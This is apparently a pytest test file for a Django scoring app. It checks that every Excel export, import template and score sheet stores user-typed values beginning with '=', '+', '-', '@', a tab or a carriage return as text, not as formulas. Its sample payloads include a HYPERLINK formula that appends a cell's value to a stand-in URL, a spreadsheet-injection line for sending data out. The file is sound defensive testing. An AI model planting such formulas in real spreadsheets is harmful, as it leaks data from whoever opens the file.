"""No Excel file the app writes carries a formula (issue 11 item 5): a name typed as "=HYPERLINK(…)", "+1", "-2",
"@SUM(…)" or starting with a tab or a carriage return is a text cell in every export, template and error
workbook; numbers stay numbers. Each file is read back with openpyxl and unzipped to look for <f> elements."""

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from thidua.accounts.models import Role
from thidua.core.documents import xlsx_response
from thidua.core.export import FORMULA_STARTS, workbook_response
from thidua.orgs.interfaces.importers import PeopleImporter
from thidua.orgs.models import Unit

pytestmark = pytest.mark.django_db

EVIL = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")', "+1+2", "-2+3", "@SUM(A1:A3)", "\t=1+1", "\r=1+1"]


def no_formula_in(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                assert not re.search(r"<(\w+:)?f[ >]", xml), f"formula in {name}"


def texts(content: bytes) -> dict:
    """Every string cell's value → its data type, over all sheets, read back by openpyxl."""
    workbook = load_workbook(io.BytesIO(content))
    return {cell.value: cell.data_type for sheet in workbook.worksheets for row in sheet.iter_rows()
            for cell in row if isinstance(cell.value, str)}


def test_the_formula_starts_are_the_issue_s():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_a_list_export_keeps_texts_as_text_and_numbers_as_numbers():
    response = workbook_response("x.xlsx", "Danh sách", ["Tên", "Số"], [[evil, -5] for evil in EVIL] + [["An", 3]])
    content = response.content
    no_formula_in(content)
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows] == [*EVIL, "An"]
    assert all(r[1] in (-5, 3) for r in rows)  # a negative number is a number
    for row in sheet.iter_rows(min_row=2, max_row=len(EVIL) + 1):
        assert row[0].data_type == "s" and row[0].quotePrefix
        assert row[1].data_type == "n"


def test_a_whole_workbook_is_defused_when_answered():
    workbook = Workbook()
    for i, evil in enumerate(EVIL, start=1):
        workbook.active.cell(row=i, column=1, value=evil)
        workbook.active.cell(row=i, column=2, value=-i)
    content = xlsx_response("y.xlsx", workbook).content
    no_formula_in(content)
    read = load_workbook(io.BytesIO(content)).active
    assert [read.cell(row=i, column=1).value for i in range(1, 5)] == EVIL[:4]
    assert [read.cell(row=i, column=2).value for i in range(1, 7)] == [-1, -2, -3, -4, -5, -6]


def test_unit_list_export_person_template_and_score_sheet(client, s1, make_user):
    unit = s1["units"]["ca"]
    Unit.objects.filter(pk=unit.pk).update(name=EVIL[0])
    admin = make_user("qtht", (Role.ADMIN, None))
    admin.is_superuser = True
    admin.save()
    client.force_login(admin)
    content = client.get(reverse("orgs:unit_list"), {"export": "xlsx"}).content
    no_formula_in(content)
    assert texts(content)[EVIL[0]] == "s"
    template = PeopleImporter().build_template(admin)
    no_formula_in(template)
    assert texts(template)[EVIL[0]] == "s"


def test_score_sheet_and_ranking_excel(client, s1, make_user, settings, tmp_path):
    from thidua.clusters.domain.periods import add_members, advance_to, create_period, set_leader
    from thidua.clusters.enums import Phase
    from thidua.scoring.domain import sheets
    from thidua.scoring.enums import CriterionType

    settings.MEDIA_ROOT = tmp_path
    units = s1["units"]
    period = create_period(s1["cluster"], 2026)
    add_members(period, [units["tand"], units["ca"]])
    set_leader(period, "head", units["tand"])
    cset = sheets.ensure_criteria_set(period)
    criterion = sheets.add_criterion(cset, "1", EVIL[3], CriterionType.PASS_FAIL, 20)
    advance_to(period, Phase.SCORING, reason="kiểm thử")
    sheets.save_self_assessment(sheets.get_sheet(period, units["ca"]), {criterion.pk: (1, EVIL[2])})
    client.force_login(make_user("sở", (Role.ORGANISER_STAFF, s1["organiser"])))
    for url in (reverse("scoring:sheet_xlsx", args=[period.pk, units["ca"].pk]),
                reverse("scoring:sheets_xlsx", args=[period.pk])):
        response = client.get(url)
        assert response.status_code == 200, url
        no_formula_in(response.content)
        found = texts(response.content)
        assert found[EVIL[3]] == "s" and found[EVIL[2]] == "s"


def test_no_workbook_is_saved_outside_the_three_core_writers():
    """Every .xlsx leaves through core.export.workbook_response, core.documents.xlsx_response or the import
    template (core.importing), each of which defuses its cells; a new writer must use one of them."""
    root = Path(__file__).resolve().parents[2] / "src" / "thidua"
    allowed = {"core/export.py", "core/documents.py", "core/importing.py"}
    offenders = []
    for path in root.rglob("*.py"):
        rel = path.relative_to(root).as_posix()
        if rel in allowed:
            continue
        source = path.read_text(encoding="utf-8")
        if "openpyxl" in source and re.search(r"\.save\(", source) and "Workbook(" in source:
            offenders.append(rel)
    assert offenders == []
